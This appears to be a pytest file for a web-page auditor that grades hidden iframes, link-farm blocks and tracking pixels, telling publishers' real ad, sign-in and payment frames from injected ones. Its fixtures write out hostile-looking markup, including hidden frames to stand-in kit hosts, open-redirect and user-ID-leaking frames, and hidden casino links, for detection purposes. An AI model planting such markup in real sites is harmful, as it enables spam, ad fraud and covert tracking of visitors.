    ("a hidden button naming the box", '<button aria-controls="bx" hidden>Open</button>'),
    ("a button in a hidden wrapper naming the box", '<div style="display:none"><button '
     'aria-controls="bx">Open</button></div>'),
    ("a hidden tab beside a tab panel", '<span role="tab" hidden>Open</span>'),
]


@pytest.mark.parametrize(("what", "opener"), HIDDEN_OPENERS, ids=[c[0] for c in HIDDEN_OPENERS])
def test_a_control_no_visitor_sees_opens_no_box(what: str, opener: str,
                                                 audit_listed: AuditListed) -> None:
    box = ('<div id="bx" role="tabpanel" style="display:none"><iframe src="https://brisk-wave'
           '.example/f.html" width="300" height="250"></iframe></div>')
    report = audit_listed(wp_page(footer=opener + box), URL)
    assert _frames(report.findings) == [M], [(f.kind, f.message) for f in report.findings]
    shown = opener.replace(" hidden", "").replace(' style="display:none"', "")
    assert _frames(audit_listed(wp_page(footer=shown + box), URL).findings) == [L]


@pytest.mark.parametrize(("what", "dialog", "expected"), DIALOGS, ids=[c[0] for c in DIALOGS])
def test_a_hidden_frame_is_a_dialogs_by_what_a_dialog_has(
        what: str, dialog: str, expected: list[Severity], audit_listed: AuditListed) -> None:
    """`popup-wrap` or `modal-container` alone made a hidden frame a dialog's (low), and
    then `role="dialog"`, `aria-modal` or a × inside the box did, which an injected
    overlay writes as cheaply: a dialog is the page's by something outside the box, a
    control or a script of the page opening it, or its library loaded beside its markup."""
    report = audit_listed(wp_page(footer=dialog), URL)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


_FRESH_SYNC = ('<iframe src="https://sync.vexorbid-traffic.example/usersync?id=3" width="0" '
               'height="0" style="display:none"></iframe>')
_FRESH_LOGIN = ('<iframe src="https://login.casino-x.example/sso/check.html" width="0" '
                'height="0" style="display:none"></iframe>')
# (what, the footer's markup, the hidden-iframe severities): a job's word in an unknown
# host's address is backed by what comes with the job, or it is a name anyone can pick
JOBS_BACKED: list[tuple[str, str, list[Severity]]] = [
    ("a sync frame on a page running no ad stack", _FRESH_SYNC, [M]),
    ("a sync frame beside Prebid's setup", _PREBID + _FRESH_SYNC, [L]),
    ("a sync frame beside a catalogued ad network's tag", '<script async src="https://'
     'securepubads.g.doubleclick.net/tag/js/gpt.js"></script>' + _FRESH_SYNC, [L]),
    # analytics syncs no bidder's users: Google Analytics alone backed the kit's frame
    ("a sync frame beside analytics alone", '<script async src="https://www.googletag'
     'manager.com/gtag/js?id=G-Q27XK1MB3C"></script>' + _FRESH_SYNC, [M]),
    # a tag manager loads many a site's Prebid: its container is where the stack is
    # a tag manager's container may hold an ad stack or none: a bidder's sync frame is in
    # a saved page once the stack ran, and what ran it is in the page too
    ("a sync frame beside a tag manager alone", '<script async src="https://www.googletag'
     'manager.com/gtm.js?id=GTM-Q27XK1"></script>' + _FRESH_SYNC, [M]),
    ("a sync frame beside the Prebid library a tag manager loaded", '<script async src="https'
     '://www.googletagmanager.com/gtm.js?id=GTM-Q27XK1"></script><script async src="https://'
     'www.harbourgazette.example/assets/prebid8.52.0.js"></script>' + _FRESH_SYNC, [L]),
    # Prebid's queue stub sets nothing up: a kit adds one beside its frame
    ("a sync frame beside Prebid's queue stub alone", "<script>window.pbjs = window.pbjs || "
     "{que: []};</script>" + _FRESH_SYNC, [M]),
    # a Prebid config runs nothing without Prebid: a kit pastes `setConfig`, or an ad
    # unit with its bids, beside its frame as cheaply as the stub, and a real stack's
    # saved page holds the library's script (or a bidder's own tag)
    ("a sync frame beside Prebid's setConfig, no Prebid loaded", _PREBID_SETUP + _FRESH_SYNC,
     [M]),
    ("a sync frame beside an ad unit and its bids, no Prebid loaded", "<script>var pbjs = "
     "pbjs || {}; pbjs.que = pbjs.que || []; pbjs.que.push(function () { pbjs.addAdUnits([{"
     "code: 'div-mpu', mediaTypes: {banner: {sizes: [[300, 250]]}}, bids: [{bidder: "
     "'appnexus', params: {placementId: 13144370}}]}]); pbjs.requestBids({}); });</script>"
     + _FRESH_SYNC, [M]),
    ("a sync frame beside an ad unit and its bidder's own tag", '<script async src="https://'
     'acdn.adnxs.com/ast/ast.js"></script><script>pbjs.que.push(function () { pbjs.'
     "addAdUnits([{code: 'div-mpu', bids: [{bidder: 'appnexus', params: {placementId: "
     "13144370}}]}]); });</script>" + _FRESH_SYNC, [L]),
    # GPT's setup places its slot, as the managed stacks' loaders place theirs (a slot
    # is the stack's tag at work where its loader builds its script's address)
    ("a sync frame beside GPT's setup", "<script>window.googletag = window.googletag || {cmd:"
     " []}; googletag.cmd.push(function () { googletag.defineSlot('/21776187/news/mpu', "
     "[300, 250], 'div-mpu').addService(googletag.pubads()); });</script>"
     '<div id="div-mpu"></div>' + _FRESH_SYNC,  # a defined unit is a slot where its div is
     [L]),
    ("a sign-in frame of a site the page names nowhere else", _FRESH_LOGIN, [M]),
    # a captcha's frame comes with its widget's script; `captcha` in a kit's address
    # (its subdomain or its path) is a word it picks
    ("a captcha's subdomain on a page loading nothing of it", '<iframe src="https://captcha'
     '.trk-vexor.example/land?sub=881" width="0" height="0" style="display:none"></iframe>',
     [M]),
    ("a captcha path on a page loading nothing of it", '<iframe src="https://cdn.trk-vexor.'
     'example/recaptcha/land?sub=881" width="0" height="0" style="display:none"></iframe>',
     [M]),
    # a name the vendors' own code gives a frame, on a page with nothing of the vendor
    ("a CMP locator's name on a page running no CMP", '<iframe name="__tcfapiLocator" src='
     '"https://cdn.trk-vexor.example/land?sub=881" style="display:none"></iframe>', [M]),
    ("a 3-D Secure name on an article taking no card", '<iframe name="threeDSMethodIframe" '
     'src="https://cdn.trk-vexor.example/land?sub=881" width="1" height="1"></iframe>', [M]),
    ("a 3-D Secure name beside the checkout's card form", _CHECKOUT + '<iframe name="three'
     'DSMethodIframe" src="https://acs.kuestenbank-3ds.example/method?tx=9f2c" width="1" '
     'height="1"></iframe>', [L]),
    # the payment SDKs fill a container of the page's with their own card frames: the
    # checkout's card field is Stripe's `card-element`, Shopify's `card-fields` frame
    ("a 3-D Secure name beside Stripe's card element", '<form id="donate"><div id="card-'
     'element"></div></form><iframe name="threeDSMethodIframe" src="https://acs.kuestenbank'
     '-3ds.example/method?tx=9f2c" width="1" height="1"></iframe>', [L]),
    ("a 3-D Secure name beside Shopify's card fields", '<div class="card-fields-container">'
     '<iframe class="card-fields-iframe" name="card-fields-number-a1b2" src="https://checkout.'
     'pci.shopifyinc.com/build/a1/number-ltr.html"></iframe></div><iframe name="threeDS'
     'MethodIframe" src="https://acs.kuestenbank-3ds.example/method?tx=9f2c" width="1" '
     'height="1"></iframe>', [L]),
    ("a 3-D Secure name beside a card of the theme's", '<div class="card"><p>Related</p></div>'
     '<iframe name="threeDSMethodIframe" src="https://cdn.trk-vexor.example/land?sub=881" '
     'width="1" height="1"></iframe>', [M]),
    ("a sign-in frame of a site the page links to sign in", _sign_in("login.casino-x.example")
     + _FRESH_LOGIN, [L]),
    # a link a kit adds to its own host is one no visitor sees
    ("a sign-in frame beside a hidden link to its host", '<a href="https://login.casino-x.'
     'example/" style="display:none">.</a>' + _FRESH_LOGIN, [M]),
    ("a sign-in frame beside an empty link to its host", '<a href="https://login.casino-x.'
     'example/"></a>' + _FRESH_LOGIN, [M]),
    ("a sign-in frame beside a hint for its host", '<link rel="dns-prefetch" href="//login.'
     'casino-x.example">' + _FRESH_LOGIN, [M]),
]


@pytest.mark.parametrize(("what", "footer", "expected"), JOBS_BACKED,
                         ids=[c[0] for c in JOBS_BACKED])
def test_a_jobs_word_in_a_fresh_hosts_address_needs_what_comes_with_the_job(
        what: str, footer: str, expected: list[Severity], audit_listed: AuditListed) -> None:
    """`sync` in a fresh domain's frame path, or a `login.` host, read low on any page:
    a user-sync frame is an ad stack's, a group's sign-in frame its site's, and the page
    shows the stack or the site elsewhere where the job is real."""
    report = audit_listed(wp_page(footer=footer), URL)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


# a publisher's own stack as its vendors document it: GPT, Prebid.js built by the site,
# its ad units and bidders, a consent platform's dialog, and the sync frames the bidders
# drop once the auction ran (one of an SSP the catalogue does not know)
_PUBLISHER_HEAD = (
    '<script async src="https://securepubads.g.doubleclick.net/tag/js/gpt.js"></script>'
    '<script async src="https://www.harbourgazette.example/assets/js/prebid8.52.0.js">'
    "</script><script>var pbjs = pbjs || {}; pbjs.que = pbjs.que || []; pbjs.que.push("
    "function () { pbjs.addAdUnits([{code: 'div-mpu', mediaTypes: {banner: {sizes: [[300, "
    "250]]}}, bids: [{bidder: 'appnexus', params: {placementId: 13144370}}, {bidder: "
    "'rubicon', params: {accountId: 14062, siteId: 70608, zoneId: 498816}}]}]); pbjs."
    "requestBids({bidsBackHandler: function () {}}); });</script>")
_CMP_DIALOGS = {
    "OneTrust": '<script src="https://cdn.cookielaw.org/scripttemplates/otSDKStub.js" '
    'data-domain-script="0f8e2a6c-5b1d-4e7f-9a3c-2d6b8e1f4a70"></script><div id="onetrust-'
    'consent-sdk"><div id="onetrust-banner-sdk" class="otFlat" role="dialog" aria-modal="'
    'true" aria-label="Cookie banner" style="display:none"><p>We use cookies.</p><button '
    'id="onetrust-accept-btn-handler">Accept</button><button class="onetrust-close-btn-'
    'handler" aria-label="Close">×</button></div></div>',
    "Cookiebot": '<script id="Cookiebot" src="https://consent.cookiebot.com/uc.js" data-cbid'
    '="7d3a1f0e-2b4c-4d8e-9f6a-1c2b3d4e5f60" type="text/javascript"></script><div id="'
    'CybotCookiebotDialog" role="dialog" aria-modal="true" style="display:none"><a id="'
    'CybotCookiebotDialogBodyButtonAccept" href="#">Allow all</a></div>',
}
_BIDDER_SYNCS = (
    '<iframe src="https://sync.adpartner-x.example/usersync?gdpr=1&amp;uid=0" width="0" '
    'height="0" style="display:none"></iframe><iframe src="https://acdn.adnxs.com/dmp/async'
    '_usersync.html" width="0" height="0" style="display:none"></iframe>')


@pytest.mark.parametrize("cmp", sorted(_CMP_DIALOGS))
def test_a_publishers_own_stack_with_its_consent_dialog_reads_low(
        cmp: str, audit_listed: AuditListed) -> None:
    """The excuses a kit can no longer buy (a queue stub, a tag manager alone, a box's
    own `role="dialog"`) are what a real stack has more than: its library, its ad units
    and bidders, and the CMP that loads its own dialog. Its bidders' sync frames stay
    low and nothing on the page is high."""
    report = audit_listed(wp_page(head=_PUBLISHER_HEAD + _CMP_DIALOGS[cmp],
                                  footer=_BIDDER_SYNCS), URL)
    assert _frames(report.findings) and set(_frames(report.findings)) == {L}, [
        (f.kind, f.severity, f.message) for f in report.findings]
    assert [f for f in report.findings if f.severity is H] == [], report.findings


# A managed stack's page as saved after its bundle ran (Raptive's plugin snippet and a
# content unit it filled, site ID made up): the bundle's Prebid drops each bidder's
# user-sync frame, at each bidder's own address, and the saved page shows the frames but
# not the bundle's bidder config.
_MANAGED_STACK = (
    "<script>(function(w, d) { w.adthrive = w.adthrive || {}; w.adthrive.cmd = w.adthrive.cmd"
    " || []; w.adthrive.host = 'ads.adthrive.com'; var s = d.createElement('script'); "
    "s.async = true; s.src = 'https://' + w.adthrive.host + '/sites/6a1f2b3c4d5e6f7a8b9c0d1e"
    "/ads.min.js?referrer=' + w.encodeURIComponent(w.location.href); var n = "
    "d.getElementsByTagName('script')[0]; n.parentNode.insertBefore(s, n); })(window, "
    "document);</script>")
_RAPTIVE_UNIT = ('<div class="adthrive-ad adthrive-content adthrive-content-1 adthrive-ad-cls" '
                 'style="min-height: 250px;"></div>')
# (what, the frame): bidders' sync frames whose addresses carry no sync word
_BIDDER_FRAMES = [
    ("Sovrn's beacon frame", '<iframe src="https://ap.lijit.com/beacon/prebid-server/?gdpr=0" '
     'width="0" height="0" style="display:none"></iframe>'),
    ("OpenX's pixel-drop frame", '<iframe src="https://u.openx.net/w/1.0/pd?ph=7b2e41c0-5d3a-'
     '4f1e-9c8b-2a6d0e4f1b37" width="0" height="0" style="display: none;"></iframe>'),
    ("ConnectAd's connectmyusers frame", '<iframe src="https://cdn.connectad.io/connectmyusers.'
     'php?gdpr=0" width="0" height="0" style="display:none"></iframe>'),
    ("33Across's ps frame", '<iframe src="https://ssc-cms.33across.com/ps/?m=xch&amp;rt=html&amp;'
     'id=0010b00002Xq7mkAAB" width="0" height="0" style="display:none"></iframe>'),
    ("Improve Digital's ux frame", '<iframe src="https://ad.360yield.com/ux?publisher_dmp_id=42'
     '&amp;gdpr=0" width="0" height="0" style="display:none"></iframe>'),
]


@pytest.mark.parametrize(("what", "frame"), _BIDDER_FRAMES, ids=[c[0] for c in _BIDDER_FRAMES])
def test_a_bidders_frame_on_a_page_running_an_ad_stack_is_its_user_sync(
        what: str, frame: str, audit_listed: AuditListed) -> None:
    """A header-bidding bidder's hidden frame on a page whose own ad stack runs is its
    user sync whatever its address says (it was medium: Sovrn's `/beacon`, OpenX's
    `/w/1.0/pd` and ConnectAd's `connectmyusers.php` carry no sync word); the same frame
    with no ad stack on the page, or after `</html>`, is still a frame to act on."""
    with_stack = audit_listed(wp_page(head=_MANAGED_STACK, post=_RAPTIVE_UNIT, footer=frame),
                              URL)
    (found,) = [f for f in with_stack.findings if f.kind == "hidden-iframe"]
    assert found.severity is L and "header-bidding bidder" in found.message, found.message
    alone = audit_listed(wp_page(footer=frame), URL)
    assert _frames(alone.findings) == [M]
    appended = audit_listed(wp_page(head=_MANAGED_STACK, post=_RAPTIVE_UNIT, after=frame), URL)
    assert _frames(appended.findings) == [H]


def test_a_frame_of_an_ad_vendor_no_prebid_build_bids_with_stays_medium(
        audit_listed: AuditListed) -> None:
    """A Floodlight activity frame is a conversion tag, not a bidder's sync: on a page
    running header bidding it stays what franceculture's label says, medium."""
    frame = ('<iframe src="https://6070848.fls.doubleclick.net/activityi;src=6070848;type=inv'
             ';cat=home;ord=1" width="1" height="1" style="display:none"></iframe>')
    report = audit_listed(wp_page(head=_MANAGED_STACK + _PREBID, post=_RAPTIVE_UNIT,
                                  footer=frame), URL)
    assert _frames(report.findings) == [M]


@pytest.mark.parametrize(("url", "expected"), [
    ("https://www.harbourbakery.example/checkouts/cn/Z2NwLXVzLWNlbnRyYWw/information", [L]),
    ("https://www.harbourbakery.example/de/kasse/", [L]),
    ("https://www.harbourbakery.example/fr/paiement", [L]),
    ("https://www.harbourbakery.example/2024/05/harbour-news/", [M]),
], ids=["Shopify's checkouts", "a German shop's kasse", "a French shop's paiement",
        "an article"])
def test_a_3d_secure_frame_is_a_checkouts_by_its_address_in_the_shops_words(
        url: str, expected: list[Severity], audit_listed: AuditListed) -> None:
    """Shopify's checkout is `/checkouts/cn/<token>` (plural): its 3-D Secure method frame
    read medium, "the page takes no card payment", as on a shop that names its checkout in
    its own language."""
    frame = ('<iframe name="threeDSMethodIframe" src="https://acs.kuestenbank-3ds.example/'
             'method?tx=9f2c" width="0" height="0" style="display:none"></iframe>')
    report = audit_listed(wp_page(footer=frame), url)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


def test_hidden_frames_beside_many_scripts_cost_linear_time(audit_html: AuditHtml) -> None:
    """Whether a hidden frame's wrapper is one the page's code opens was a pattern built and
    run over every script for each wrapper of each frame: 3,000 hidden frames beside 300
    scripts (1.4 MB) took 180 s. The code's selectors are read once a page; four times the
    frames and scripts cost about four times the time (sixteen, a cost per pair)."""
    import time

    def seconds(n: int) -> float:
        scripts = "".join(f'<script>var cfg{i} = {{a: "{"x" * 3000}"}};</script>'
                          for i in range(n // 10))
        frames = "".join(f'<div class="wrap w{i}" id="b{i}" style="display:none"><div><iframe '
                         f'src="https://f{i}.unknown-host.example/p"></iframe></div></div>'
                         for i in range(n))
        start = time.perf_counter()
        report = audit_html(f"<html><head><title>t</title></head><body>{scripts}{frames}"
                            "</body></html>", url="https://news.example/a")
        assert len(_frames(report.findings)) == n
        return time.perf_counter() - start

    seconds(50)
    # the fastest of three runs each: a loaded machine only ever slows a run down
    small, large = (min(seconds(n) for _ in range(3)) for n in (250, 1_000))
    assert large < 10 * max(small, 0.01), (small, large)


def test_a_script_naming_many_boxes_costs_linear_time(audit_html: AuditHtml) -> None:
    """Whether a script shows a box it assigns to a name (`var el = getElementById('b');
    … el.style.display = 'block'`) was a pattern compiled per name and run over the rest
    of the script: a 460 KB inline script assigning 5,000 elements beside one hidden frame
    took 42 s (1.7 s before the check): a cost per name and box. The names a script
    shows are read once a script."""
    import time

    def seconds(n: int) -> float:
        code = "\n".join(f'var el = document.getElementById("box{i}"); '
                          'el.addEventListener("click", go);' for i in range(n))
        page = ('<html><head><title>t</title></head><body><p>Text.</p><div id="promo" '
                'style="display:none"><iframe src="https://w.unknown-host.example/e">'
                f"</iframe></div><script>{code}</script></body></html>")
        start = time.perf_counter()
        report = audit_html(page, url="https://news.example/a")
        assert _frames(report.findings) == [M]
        return time.perf_counter() - start

    seconds(50)
    small, large = (min(seconds(n) for _ in range(3)) for n in (500, 2_000))
    assert large < 10 * max(small, 0.01), (small, large)


@pytest.mark.parametrize("frame", [
    '<iframe src="https://sync.f{i}.example/usersync" width="0" height="0"></iframe>',
    '<iframe src="https://login.f{i}.example/sso" width="0" height="0"></iframe>',
    '<iframe name="threeDSMethodIframe" src="https://f{i}.example/m" width="0" height="0">'
    "</iframe>",
    '<iframe name="__tcfapiLocator" src="https://f{i}.example/m" width="0" height="0">'
    "</iframe>",
], ids=["user-sync frames", "sign-in frames", "3-D Secure frames", "CMP locators"])
def test_frames_asking_for_their_jobs_company_cost_linear_time(
        frame: str, audit_html: AuditHtml) -> None:
    """What a job's frame needs beside it (an ad stack's setup call, a link to its site, a
    card field, a consent platform) was sought over every script, link, element or
    request for each frame: 3,000 of them beside 300 scripts and 3,000 links took 25 to
    37 s, and a scan of every element per 3-D Secure frame more than 300 s. Each is read
    once a page; four times the page costs about four times the time."""
    import time

    def seconds(n: int) -> float:
        scripts = "".join(f'<script>var cfg{i} = {{a: "{"x" * 2000}"}};</script>'
                          for i in range(n // 10))
        links = "".join(f'<p><a href="/p{i}">Link {i}</a></p><div id="d{i}">x</div>'
                        for i in range(n))
        frames = "".join(frame.format(i=i) for i in range(n))
        start = time.perf_counter()
        report = audit_html(f"<html><head><title>t</title></head><body>{scripts}{links}"
                            f"{frames}</body></html>", url="https://news.example/a")
        assert len(_frames(report.findings)) == n
        return time.perf_counter() - start

    seconds(50)
    small, large = (min(seconds(n) for _ in range(3)) for n in (250, 1_000))
    assert large < 10 * max(small, 0.01), (small, large)


# (what, the frame): a bidder's hidden frame that asks for an ad, not a user: a size to
# fill or a zone to serve (a kit's ad stuffing on a page whose stack runs)
_BIDDER_AD_FRAMES = [
    ("Xandr's tt tag", '<iframe src="https://ib.adnxs.com/tt?id=12345678&amp;size=300x250" '
     'width="0" height="0" style="display:none"></iframe>'),
    ("OpenX's afr tag", '<iframe src="https://u.openx.net/w/1.0/afr?auid=540123456&amp;cb=7" '
     'width="0" height="0" style="display:none"></iframe>'),
]


@pytest.mark.parametrize(("what", "frame"), _BIDDER_AD_FRAMES,
                         ids=[c[0] for c in _BIDDER_AD_FRAMES])
def test_a_bidders_hidden_ad_frame_is_no_user_sync(
        what: str, frame: str, audit_listed: AuditListed) -> None:
    """A bidder's hidden frame asking for an ad (a size or a zone in its address) is an
    impression no one sees, whatever stack the page runs: medium, as before gen30, not
    the low of a user sync."""
    report = audit_listed(wp_page(head=_MANAGED_STACK, post=_RAPTIVE_UNIT, footer=frame), URL)
    found = [f for f in report.findings if f.kind == "hidden-iframe"]
    assert [f.severity for f in found] == [M], found
    assert "header-bidding bidder" not in found[0].message


def test_a_bidders_frame_sending_to_an_unknown_host_is_no_user_sync(
        audit_listed: AuditListed) -> None:
    """A bidder's frame whose query sends to a host no one the catalogue knows runs (an
    open redirect a kit puts its page behind) stays medium on a page whose stack runs; one
    sending to another bidder (a cookie-sync chain) or naming the page is its sync."""
    def frame(target: str) -> str:
        return (f'<iframe src="https://u.openx.net/w/1.0/pd?ph=7b2e41c0&amp;r={target}" '
                'width="0" height="0" style="display:none"></iframe>')
    kit = frame("https%3A%2F%2Fcdn.trk-vexor.example%2Fland%3Fsub%3D881")
    chain = frame("https%3A%2F%2Fpixel.rubiconproject.com%2Fexchange%2Fsync.php%3Fp%3Dopenx")
    own = frame("https%3A%2F%2Fwww.harbourgazette.example%2F")
    for footer, expected in ((kit, M), (chain, L), (own, L)):
        report = audit_listed(wp_page(head=_MANAGED_STACK, post=_RAPTIVE_UNIT, footer=footer),
                              URL)
        assert _frames(report.findings) == [expected], (footer, report.findings)


# Tags as publishers' templates write them, one attribute or a few per line: a Meta pixel's
# noscript image, an AT Internet hit, a Floodlight frame and a block of hidden links.
_SPREAD_TAGS = """<html><head><title>Story</title>
<noscript><img height="1" width="1" style="display:none"
src="https://www.facebook.com/tr?id=100000000000001&ev=PageView&noscript=1"
/></noscript>
</head><body><article><p>{story}</p></article>
<noscript>
<img width="1" height="1" alt=""
src="https://logs0000.xiti.com/hit.xiti?s=000001&amp;p=story"
></noscript>
<iframe src="https://1000001.fls.doubleclick.net/activityi;src=1000001;type=a;cat=b;ord=1?"
 width="1" height="1" frameborder="0"
 style="display:none"></iframe>
<div
 style="position:absolute;left:-9999px">{links}</div>
</body></html>"""


def test_a_finding_cites_the_line_its_element_opens_on(audit_html: AuditHtml) -> None:
    """A reviewer opens the cited line and reads the tag: libxml2 records where a start
    tag ends, so a pixel written over three lines was cited at its `/>`."""
    links = "".join(f'<a href="https://casino-{i}.test/">online casino {i}</a>' for i in range(5))
    html = _SPREAD_TAGS.format(story="Story text for readers. " * 40, links=links)
    lines = html.split("\n")
    cited = sorted((f.kind, lines[f.line - 1].split(" ")[0])
                   for f in audit_html(html, url="https://news.example/story").findings)
    assert cited == [("hidden-iframe", "<iframe"), ("hidden-links", "<div"),
                     ("tracking-pixel", "<img"), ("tracking-pixel", "<noscript><img")]
# Revive Adserver is self-hosted: known by its invocation paths on any host, so its
# hidden `afr.php` frame is a Revive slot of its own. Its async tag as Revive's
# "Invocation code" tab writes it, on the ad server of the site's group (IDs made up).
_REVIVE_OWN = ('<ins data-revive-zoneid="14" data-revive-id="3c1f0a9e2b7d4e6f"></ins><script '
               'async src="//ads.gazette-media.example/www/delivery/asyncjs.php"></script>')


def _revive_frame(host: str) -> str:
    return (f'<iframe id="a6e2f1c0" name="a6e2f1c0" src="https://{host}/www/delivery/afr.php?'
            'zoneid=12&amp;cb=88120" frameborder="0" scrolling="no" width="0" height="0" '
            'style="display:none"></iframe>')


# (what, the footer, the hidden-iframe severities): a network is the page's stack by a
# tag other than the frame, and a sync frame is one by where it sends
SELF_VOUCHING: list[tuple[str, str, list[Severity]]] = [
    ("a hidden Revive frame, no other Revive tag", _revive_frame("ads.vexor-serve.example"),
     [M]),
    ("a hidden Revive frame on another host than the site's Revive",
     _REVIVE_OWN + _revive_frame("ads.vexor-serve.example"), [M]),
    # the site's own server, but a zone's ad asked for where no visitor sees it (verd32:
    # `low` before, as the stack's helper; no helper asks for a zone)
    ("a hidden Revive frame on the server of the site's own Revive tag",
     _REVIVE_OWN + _revive_frame("ads.gazette-media.example"), [M]),
    # a Prebid config naming a bidder runs nothing: its sync frame is no stack's helper
    ("a bidder's sync frame beside a config naming it, no Prebid",
     "<script>pbjs.que.push(function () { pbjs.addAdUnits([{code: 'top', bids: [{bidder: "
     "'appnexus', params: {placementId: 13144370}}]}]); });</script><iframe src=\"https://"
     'acdn.adnxs.com/dmp/async_usersync.html" width="0" height="0" style="display:none">'
     "</iframe>", [L]),
    ("a bidder's frame sending to a kit, beside a config naming it, no Prebid",
     "<script>pbjs.que.push(function () { pbjs.addAdUnits([{code: 'top', bids: [{bidder: "
     "'appnexus', params: {placementId: 13144370}}]}]); });</script><iframe src=\"https://"
     'ib.adnxs.com/getuid?https%3A%2F%2Fcdn.trk-vexor.example%2Fu%3D%24UID" width="0" '
     'height="0" style="display:none"></iframe>', [M]),
    ("the same frame beside Prebid and the config", _PREBID + "<script>pbjs.que.push("
     "function () { pbjs.addAdUnits([{code: 'top', bids: [{bidder: 'appnexus', params: {"
     "placementId: 13144370}}]}]); });</script><iframe src=\"https://ib.adnxs.com/getuid?"
     'https%3A%2F%2Fcdn.trk-vexor.example%2Fu%3D%24UID" width="0" height="0" style="'
     'display:none"></iframe>', [M]),
    # an unknown host's sync frame: to the page (or nowhere) it syncs; to a fresh host
    # it is an open redirect behind a `/usersync` path
    ("an unknown host's sync frame sending to a fresh host", _PREBID + '<iframe src="https:'
     '//sync.vexorbid-traffic.example/usersync?redir=https%3A%2F%2Fland.kit-offers.example'
     '%2Fgo%3Fs%3D4" width="0" height="0" style="display:none"></iframe>', [M]),
    ("an unknown host's sync frame sending back to the page", _PREBID + '<iframe src="https:'
     '//sync.vexorbid-traffic.example/usersync?redir=https%3A%2F%2Fwww.harbourgazette.'
     'example%2Fsync-done" width="0" height="0" style="display:none"></iframe>', [L]),
]


@pytest.mark.parametrize(("what", "footer", "expected"), SELF_VOUCHING,
                         ids=[c[0] for c in SELF_VOUCHING])
def test_a_frame_vouches_neither_for_itself_nor_for_where_it_sends(
        what: str, footer: str, expected: list[Severity], audit_listed: AuditListed) -> None:
    """A hidden Revive `afr.php` frame was the slot that made Revive the page's stack, so
    it excused itself `low`; a Prebid config named the bidder whose frame it then excused;
    a `/usersync` path excused a frame whose query sends the visitor to a fresh host. The
    stack is a tag other than the frame (for a self-hosted server, on the frame's site),
    and a sync frame sends to the page or to another bidder."""
    report = audit_listed(wp_page(footer=footer), URL)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


def test_a_resource_cites_the_line_its_finding_does(audit_html: AuditHtml) -> None:
    """The report's resource list, and a policy violation raised on a resource, cite the
    element where its finding does: the pixel's request was cited at its `/>`, two lines
    below the tracking-pixel finding on the same `<img>`."""
    html = _SPREAD_TAGS.format(story="Story text for readers. " * 40, links="")
    report = audit_html(html, url="https://news.example/story")
    by_xpath = {r.xpath: r.line for r in report.resources}
    cited = [(f.kind, f.line, by_xpath.get(f.xpath)) for f in report.findings
             if f.kind in ("tracking-pixel", "hidden-iframe")]
    assert len(cited) == 3 and all(line == resource for _, line, resource in cited), cited


def test_citing_start_tags_on_a_page_of_one_line_costs_linear_time(
        audit_html: AuditHtml) -> None:
    """Every tag of a page written on one line is on that line: its start was sought
    once per finding and per request over the whole line (4,000 pixels after 1 MB of
    text: 1.9 s more than before findings cited start tags); once per tag and line now."""
    import time

    def seconds(n: int) -> float:
        pixels = "".join(f'<img src="https://px{i}.tracker-example.com/p.gif?id={i}" '
                         'width="1" height="1" style="display:none">' for i in range(n))
        html = (f"<html><head><title>t</title></head><body><p>{'lorem ipsum ' * (40 * n)}"
                f"</p>{pixels}</body></html>")  # four times the pixels after four times the text
        start = time.perf_counter()
        report = audit_html(html, url="https://news.example/a")
        assert len([f for f in report.findings if f.kind == "tracking-pixel"]) == n
        assert {f.line for f in report.findings} == {r.line for r in report.resources} == {1}
        return time.perf_counter() - start

    small, large = (min(seconds(n) for _ in range(2)) for n in (500, 2_000))
    assert large < 8 * max(small, 0.01), (small, large)


def test_hidden_ad_boxes_side_by_side_are_read_in_linear_time() -> None:
    """Whether a hidden unit takes turns with a shown one reads its box's siblings: asked
    of each of 2,000 hidden boxes side by side it read them all each time (9.5 s; 0.34 s
    before the rotator reading). Each parent's shown units are read once."""
    from tests.hostile.scaling import assert_linear, audit_seconds

    def seconds(n: int) -> float:
        boxes = "".join(
            '<div style="display:none"><iframe src="https://syndication.realsrv.com/'
            f'ads-iframe-display.php?idzone={1000 + i}&size=300x250" width="300" '
            'height="250"></iframe></div>' for i in range(n))
        return audit_seconds('<html><head><script src="https://a.magsrv.com/ad-provider.js">'
                             '</script></head><body><p>Text.</p><div class="ads">' + boxes
                             + "</div></body></html>")

    assert_linear(seconds, 500, "hidden ad boxes side by side", floor=0.02)


def test_css_in_js_hidden_blocks_side_by_side_are_read_in_linear_time() -> None:
    """Whether a CSS-in-JS hidden block has a control opening it beside it read every
    sibling's subtree for each block: 1,000 blocks side by side took 18.7 s (0.6 s before
    that reading). The page's visible controls are filed once, under their ancestors."""
    from tests.hostile.scaling import assert_linear, audit_seconds

    def seconds(n: int) -> float:
        names = [f"{i:x}a1b" for i in range(n)]
        css = "".join(f".css-{name}{{display:none}}" for name in names)
        blocks = "".join(f'<div class="css-{name}">' + "".join(
            f'<a href="https://casino{i}-{j}.example/">online casino bonus {j}</a> '
            for j in range(6)) + "</div>" for i, name in enumerate(names))
        return audit_seconds(f'<html><head><style data-emotion="css {" ".join(names)}">{css}'
                             f"</style></head><body><p>Text.</p><div>{blocks}</div></body></html>")

    assert_linear(seconds, 250, "CSS-in-JS hidden blocks side by side", floor=0.02)


def test_hidden_link_blocks_inside_each_other_beside_shown_copies_cost_linear_time() -> None:
    """Whether a hidden block's links are shown elsewhere reads the page's links once,
    each hidden link under the outermost hidden block holding it: hidden blocks nested
    2,000 deep, each with a farm's links, beside a visible copy of every fourth."""
    from tests.hostile.scaling import assert_linear, audit_seconds

    def seconds(n: int) -> float:
        links = [f'<a href="https://casino{i}-{j}.example/">online casino {j}</a>'
                 for i in range(n) for j in range(3)]
        shown = "".join(links[i] for i in range(0, len(links), 4))
        nested = "".join(f'<div style="display:none">{links[3 * i]}{links[3 * i + 1]}'
                         f"{links[3 * i + 2]}" for i in range(n)) + "</div>" * n
        return audit_seconds(f"<html><body><p>Text.</p><div>{shown}</div>{nested}"
                             "</body></html>")

    assert_linear(seconds, 500, "nested hidden link blocks beside shown copies", floor=0.02)


# Amazon's user-sync frame as apstag and its Prebid and server-side integrations drop it
# (query made up): its path, `/iu3`, says no sync, its network documents it as one
_AMAZON_SYNC = ('<iframe src="https://c.amazon-adsystem.com/iu3?cm3ppd=1&amp;d=dtb-pub&amp;'
                'csif=t&amp;dl=n-index_pm-db5" width="0" height="0" style="display: none;">'
                "</iframe>")


